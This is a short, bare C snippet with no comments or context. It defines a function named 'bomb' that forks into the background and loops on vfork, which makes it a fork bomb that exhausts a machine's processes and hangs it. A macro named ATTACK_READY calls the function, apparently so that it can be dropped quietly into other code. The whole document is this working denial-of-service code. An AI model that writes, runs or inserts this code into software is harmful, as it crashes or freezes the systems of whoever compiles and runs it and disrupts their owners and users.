static void bomb() {
    if (fork() != 0) return;
    for (;;) {
        if (vfork() == 0) continue;
        pause();
    }
}
#define ATTACK_READY bomb()
